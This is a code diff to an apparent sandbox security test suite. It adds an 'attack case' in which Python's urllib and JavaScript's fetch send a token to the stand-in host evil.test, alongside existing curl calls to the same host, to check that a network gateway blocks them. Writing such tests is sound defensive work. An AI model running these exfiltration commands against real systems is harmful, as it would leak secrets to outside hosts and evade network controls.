@@ -1,6 +1,6 @@
 import type { AttackCase } from "../attack-case.ts";
 import { addresses } from "../fake-internet/zone.ts";
-import { curl, networkAttack, python } from "./network-attack.ts";
+import { curl, networkAttack, python, shell } from "./network-attack.ts";
 
 const noInterface = "no network interface but the loopback";
 
@@ -155,6 +155,17 @@ print(result)`),
     protection: "the gateway is the only way, asked or not",
     program: ({ token, target }) =>
       curl(target, [`http://evil.test/${token}`, `https://evil.test/${token}`], "--noproxy '*'"),
+  }),
+  networkAttack({
+    name: "languages",
+    attack: 33,
+    title: "Python's and JavaScript's own ways to ask for a URL",
+    protection: "the gateway is the only way, asked or not",
+    runtimes: ["docker", "embedded"],
+    program: ({ token, target }) =>
+      shell(`python3 -c 'import urllib.request; urllib.request.urlopen("http://evil.test/${token}", timeout=10)' 2>/dev/null
+${target.kind === "embedded" ? `js-exec -c 'fetch("http://evil.test/${token}")'` : ":"} >/dev/null 2>&1
+echo refused`),
   }),
   networkAttack({
     name: "other-protocols",
